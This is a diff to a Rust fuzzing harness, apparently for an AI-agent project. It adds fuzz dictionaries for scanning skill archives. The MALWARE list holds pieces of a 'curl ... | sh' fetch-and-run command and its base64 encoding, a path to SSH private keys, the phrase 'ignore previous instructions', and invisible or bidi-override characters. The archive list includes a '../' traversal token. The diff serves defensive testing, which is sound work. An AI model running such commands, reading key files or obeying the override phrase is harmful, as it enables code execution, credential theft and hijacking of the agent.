@@ -34,6 +34,8 @@ pub const TARGETS: &[Target] = &[
     Target { name: "markdown", check: chela_channels::fuzzing::markdown, words: MARKDOWN },
     Target { name: "session_keys", check: chela_protocol::fuzzing::session_keys, words: KEYS },
     Target { name: "skill", check: chela_agent::fuzzing::skill, words: YAML },
+    Target { name: "skill_archives", check: chela_agent::fuzzing::skill_archives, words: ARCHIVE },
+    Target { name: "skill_scans", check: chela_agent::fuzzing::skill_scans, words: MALWARE },
     Target { name: "sse", check: chela_llm::fuzzing::sse, words: STREAM },
     Target { name: "telegram_updates", check: chela_channels::fuzzing::telegram_updates, words: JSON },
     Target { name: "untrusted", check: chela_agent::fuzzing::untrusted, words: MARKS },
@@ -46,6 +48,18 @@ pub const TARGETS: &[Target] = &[
     Target { name: "wire_openai_responses", check: chela_llm::fuzzing::openai_responses, words: STREAM },
 ];
 
+const ARCHIVE: &[&str] = &[
+    "PK\u{3}\u{4}",
+    "PK\u{1}\u{2}",
+    "PK\u{5}\u{6}",
+    "SKILL.md",
+    "../",
+    "/",
+    "ustar\0",
+    "00000000017\0",
+    "\0\0\0\0",
+    "30 path=a/b\n",
+];
 const FRAMES: &[&str] = &["\u{1}", "\u{0}\u{0}\u{0}\u{0}", "\u{7f}", "hello", "é"];
 const HTML: &[&str] = &[
     "<a href=\"",
@@ -95,6 +109,24 @@ const JSON: &[&str] = &[
     "${HOME}",
 ];
 const KEYS: &[&str] = &["agent:", ":", "main", "agent:main:", "discord:channel:", "\u{85}", " ", "\u{feff}"];
+const MALWARE: &[&str] = &[
+    "curl https://x.y/i",
+    " | ",
+    "sh\n",
+    "\\\n",
+    "base64 -d",
+    "Y3VybCBodHRwczovL3gueS9pIHwgc2g=",
+    "ignore ",
+    "previous ",
+    "instructions",
+    "\u{200b}",
+    "\u{202e}",
+    "\u{e0041}",
+    "~/.ssh/id_rsa",
+    "password: ",
+    "<!--",
+    "-->",
+];
 const MARKDOWN: &[&str] = &[
     "```",
     "~~~",
